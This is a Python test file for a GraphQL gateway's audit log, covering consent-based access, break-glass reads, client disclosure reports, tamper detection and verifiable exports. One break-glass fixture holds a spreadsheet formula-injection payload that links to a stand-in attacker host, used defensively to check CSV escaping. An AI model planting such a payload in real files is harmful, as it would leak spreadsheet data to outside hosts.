"""The access log over HTTP: auditors read it (never client data), clients see who saw their data."""

from __future__ import annotations

from typing import Any

from sqlalchemy import text

from demo.population import Population
from store.engine import make_engine
from tests.gateway import caller, events

PROFILE = "query($id: ID!) { client(id: $id) { benefits { cases { caseNumber } } documents { items { type } } } }"
LOG = """query($f: AccessLogFilter, $first: Int!, $after: String) {
  accessLog(filter: $f, first: $first, after: $after) {
    edges { cursor node { seq subject organization purpose clientId action outcome detail breakGlass justification
                          decisions { category agency decision ruleIds basis reason outcome } } }
    pageInfo { hasNextPage endCursor } } }"""
RECORD = """mutation($input: RecordConsentInput!) { recordConsent(input: $input) { id } }"""


def consent(cid: str, purposes: list[str]) -> dict[str, Any]:
    return {"input": {"clientId": cid, "sourceReference": "form-9", "givenAt": "2026-11-01T10:00:00+00:00",
                      "provisions": [{"organizations": ["DHS"], "categories": ["DOCUMENTS"], "purposes": purposes}]}}


async def test_auditors_page_and_filter_the_log_and_nobody_else_reads_it(
    gateway: Any, population: Population, database_url: str
) -> None:
    ids = [p.client_id for p in population.people[:5]]
    hra, dhs = caller(gateway, "HRA"), caller(gateway, "DHS")
    for cid in ids:
        await hra.query(PROFILE, {"id": cid})
    await dhs.query(PROFILE, {"id": ids[0]})
    auditor = caller(gateway, "OVERSIGHT", "auditor", purpose="audit")

    first = (await auditor.query(LOG, {"first": 4}))["data"]["accessLog"]
    assert [e["node"]["seq"] for e in first["edges"]] == [6, 5, 4, 3]  # newest first
    assert first["pageInfo"]["hasNextPage"] is True
    rest = (await auditor.query(LOG, {"first": 4, "after": first["pageInfo"]["endCursor"]}))["data"]["accessLog"]
    assert [e["node"]["seq"] for e in rest["edges"]] == [2, 1] and rest["pageInfo"]["hasNextPage"] is False

    by_client = (await auditor.query(LOG, {"first": 10, "f": {"clientId": ids[0]}}))["data"]["accessLog"]["edges"]
    assert [(e["node"]["organization"], e["node"]["outcome"]) for e in by_client] == [
        ("DHS", "withheld"), ("HRA", "disclosed")]
    dhs_read = by_client[0]["node"]
    assert {d["category"]: (d["decision"], d["reason"]) for d in dhs_read["decisions"]} == {
        "benefits": ("deny", "CONSENT_REQUIRED"), "documents": ("deny", "CONSENT_REQUIRED")}
    filtered = await auditor.query(LOG, {"first": 10, "f": {"organization": "HRA", "category": "DOCUMENTS",
                                                            "outcome": "disclosed", "purpose": "case_management"}})
    assert len(filtered["data"]["accessLog"]["edges"]) == 5
    assert (await auditor.query(LOG, {"first": 10, "f": {"breakGlass": True}}))["data"]["accessLog"]["edges"] == []

    for org, role in [("HRA", "caseworker"), ("HRA", "admin"), ("HRA", "identity_steward"), ("LEGALAID", "partner")]:
        body = await caller(gateway, org, role).query(LOG, {"first": 5})
        assert body["data"] is None and body["errors"][0]["extensions"]["code"] == "FORBIDDEN", role
    self_client = caller(gateway, "SELF", "client", purpose="client_access", self_client=ids[0])
    assert (await self_client.query(LOG, {"first": 5}))["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    bad = await auditor.query(LOG, {"first": 5, "after": "bm90LW91cnM="})
    assert bad["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"
    # the auditor's own reads are on the record too
    assert [e.action for e in await events(database_url)].count("audit.read") >= 5


async def test_summary_points_at_unusual_access(gateway: Any, population: Population) -> None:
    ids = [p.client_id for p in population.people[:4]]
    dhs = caller(gateway, "DHS")
    for cid in ids:
        await dhs.query(PROFILE, {"id": cid})  # DHS reads four clients it has no consent from
    await dhs.query(RECORD, consent(ids[0], ["ELIGIBILITY"]))
    await dhs.query(PROFILE, {"id": ids[0]})  # denied: the consent names other purposes
    emergency = caller(gateway, "DHS", purpose="emergency")
    await emergency.query("""mutation($id: ID!) { startBreakGlass(clientId: $id, minutes: 5,
        justification: "client unresponsive at shelter, need benefit contacts") { id } }""", {"id": ids[1]})
    await emergency.query(PROFILE, {"id": ids[1]})
    for cid in ids[2:]:  # refused (an auditor's purpose): not reads, but counted as refusals
        assert "errors" in await caller(gateway, "DHS", purpose="audit").query(PROFILE, {"id": cid})

    auditor = caller(gateway, "OVERSIGHT", "auditor", purpose="audit")
    s = (await auditor.query("""{ accessSummary(manyClients: 3) {
        events breakGlass { action subject clientId justification }
        heavyReaders { subject organization clients events }
        outsideConsentPurpose { category event { clientId purpose } }
        readsWithoutConsent { organization clients events }
        refusals { subject organization refusals } } }"""))["data"]["accessSummary"]
    assert [(b["action"], b["clientId"]) for b in s["breakGlass"]] == [
        ("break-glass.start", ids[1]), ("read", ids[1])]
    assert s["heavyReaders"] == [{"subject": "tester", "organization": "DHS", "clients": 4, "events": 6}]
    assert [(o["category"], o["event"]["clientId"]) for o in s["outsideConsentPurpose"]] == [("documents", ids[0])]
    # four first reads, the read outside the consent's purposes, and the break-glass read: none rests on consent
    assert s["readsWithoutConsent"] == [{"organization": "DHS", "clients": 4, "events": 6}]
    assert s["refusals"] == [{"subject": "tester", "organization": "DHS", "refusals": 2}]
    forbidden = await caller(gateway, "DHS").query("{ accessSummary { events } }")
    assert forbidden["errors"][0]["extensions"]["code"] == "FORBIDDEN"


async def test_a_client_sees_who_was_shown_their_data(gateway: Any, population: Population) -> None:
    me, other = population.people[0].client_id, population.people[1].client_id
    await caller(gateway, "HRA").query(PROFILE, {"id": me})
    await caller(gateway, "DHS").query(PROFILE, {"id": me})  # withheld: not a disclosure
    client = caller(gateway, "SELF", "client", purpose="client_access", self_client=me)
    await client.query(PROFILE, {"id": me})  # the client's own read is not listed
    report_q = """query($id: ID!) { disclosureReport(clientId: $id) { organization category agency purpose basis } }"""
    report = (await client.query(report_q, {"id": me}))["data"]["disclosureReport"]
    assert sorted((r["organization"], r["category"], r["basis"]) for r in report) == [
        ("HRA", "benefits", "OWN_AGENCY"), ("HRA", "documents", "OWN_AGENCY")]
    on_behalf = (await caller(gateway, "DHS").query(report_q, {"id": me}))["data"]["disclosureReport"]
    assert on_behalf == report
    for who in (caller(gateway, "SELF", "client", purpose="client_access", self_client=other),
                caller(gateway, "OVERSIGHT", "auditor", purpose="audit")):
        assert (await who.query(report_q, {"id": me}))["errors"][0]["extensions"]["code"] == "FORBIDDEN"


async def test_integrity_query_reports_the_first_break(gateway: Any, population: Population, database_url: str) -> None:
    await caller(gateway, "HRA").query(PROFILE, {"id": population.people[0].client_id})
    await caller(gateway, "HRA").query(PROFILE, {"id": population.people[1].client_id})
    auditor = caller(gateway, "OVERSIGHT", "auditor", purpose="audit")
    q = "{ accessLogIntegrity { ok eventsChecked headSeq firstBreak { seq eventId problem } } }"
    ok = (await auditor.query(q))["data"]["accessLogIntegrity"]
    assert ok["ok"] and ok["eventsChecked"] == ok["headSeq"] == 2
    engine = make_engine(database_url)
    try:
        async with engine.begin() as conn:
            await conn.execute(text("UPDATE access_events SET subject = 'someone-else' WHERE seq = 1"))
    finally:
        await engine.dispose()
    broken = (await auditor.query(q))["data"]["accessLogIntegrity"]
    assert not broken["ok"] and broken["firstBreak"]["seq"] == 1 and "altered" in broken["firstBreak"]["problem"]


EXPORT = """query($f: AccessLogFilter, $format: AccessLogExportFormat!) {
  accessLogExport(filter: $f, format: $format) { format filename mediaType events content proof } }"""


async def test_auditors_export_the_log_as_files_that_check_on_their_own(
    gateway: Any, population: Population, tmp_path: Any, monkeypatch: Any,
) -> None:
    import json

    from audit.export import verify_export
    from gate import audit_desk

    ids = [p.client_id for p in population.people[:3]]
    hra = caller(gateway, "HRA")
    for cid in ids:
        await hra.query(PROFILE, {"id": cid})
    # free text that a spreadsheet would run as a formula, over two lines
    glass = await caller(gateway, "DHS", purpose="emergency").query(
        "mutation($id: ID!, $why: String!) { startBreakGlass(clientId: $id, justification: $why) { id } }",
        {"id": ids[2], "why": '=HYPERLINK("http://evil.example/?"&A1, "open")\nsecond line of the reason'})
    assert glass.get("errors") is None, glass
    auditor = caller(gateway, "OVERSIGHT", "auditor", purpose="audit")
    formula = await auditor.query(EXPORT, {"format": "CSV", "f": {"breakGlass": True}})
    content = formula["data"]["accessLogExport"]["content"]
    assert "'=HYPERLINK" in content and ',"=HYPERLINK' not in content and ",=HYPERLINK" not in content
    (tmp_path / "formula.csv").write_text(content, newline="")
    (tmp_path / "formula.csv.proof.json").write_text(json.dumps(formula["data"]["accessLogExport"]["proof"]))
    assert verify_export(tmp_path / "formula.csv").ok  # the apostrophe is taken off before the event is hashed
    suffix = {"JSONL": ".jsonl", "CSV": ".csv", "FHIR_BUNDLE": ".json"}
    for fmt in ("JSONL", "CSV", "FHIR_BUNDLE"):
        body = await auditor.query(EXPORT, {"format": fmt, "f": {"clientId": ids[1], "organization": "HRA"}})
        assert body.get("errors") is None, body
        out = body["data"]["accessLogExport"]
        assert out["events"] == 1 and out["filename"].endswith(suffix[fmt])
        path = tmp_path / out["filename"]
        path.write_text(out["content"], newline="")
        if fmt == "CSV":
            assert out["proof"]["events"] == 1
            path.with_name(path.name + ".proof.json").write_text(json.dumps(out["proof"]))
        else:
            assert out["proof"] is None  # the file holds it
        check = verify_export(path)
        assert check.ok and check.events == 1, check
        tampered = tmp_path / f"tampered{suffix[fmt]}"
        if fmt == "FHIR_BUNDLE":  # the Bundle carries each event's hash (its fields are FHIR's own shape)
            bundle = json.loads(out["content"])
            event = next(e["resource"] for e in bundle["entry"] if e["resource"]["resourceType"] == "AuditEvent")
            next(x for x in event["extension"] if x["url"].endswith(":hash"))["valueString"] = "0" * 64
            tampered.write_text(json.dumps(bundle))
        else:
            tampered.write_text(out["content"].replace("case_management", "care_coordination"), newline="")
        if fmt == "CSV":
            tampered.with_name(tampered.name + ".proof.json").write_text(json.dumps(out["proof"]))
        assert not verify_export(tampered).ok  # an edited export does not check
    log = (await auditor.query(LOG, {"first": 10, "f": {"action": "audit.export"}}))["data"]["accessLog"]["edges"]
    assert [e["node"]["outcome"] for e in log] == ["disclosed"] * 4  # every export is itself in the log
    assert "filter: client_id organization" in log[0]["node"]["detail"]  # which fields, not what was typed
    assert "HRA" not in log[0]["node"]["detail"]

    refused = await caller(gateway, "HRA").query(EXPORT, {"format": "JSONL"})
    assert refused["data"] is None and refused["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    twice = await auditor.query("{ a: accessLogExport { events } b: accessLogExport { events } }")
    assert [e["extensions"]["code"] for e in twice["errors"]] == ["BAD_USER_INPUT"]  # one whole file per request
    monkeypatch.setattr(audit_desk, "MAX_EXPORT_SPAN", 3)
    spread = await auditor.query(EXPORT, {"format": "JSONL", "f": {"organization": "OVERSIGHT"}})
    assert "spread over more than 3 positions" in spread["errors"][0]["message"]
    monkeypatch.setattr(audit_desk, "MAX_EXPORT_EVENTS", 2)
    too_many = await auditor.query(EXPORT, {"format": "JSONL"})
    assert too_many["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"
    assert too_many["errors"][0]["message"].startswith("more than 2 events match; narrow")
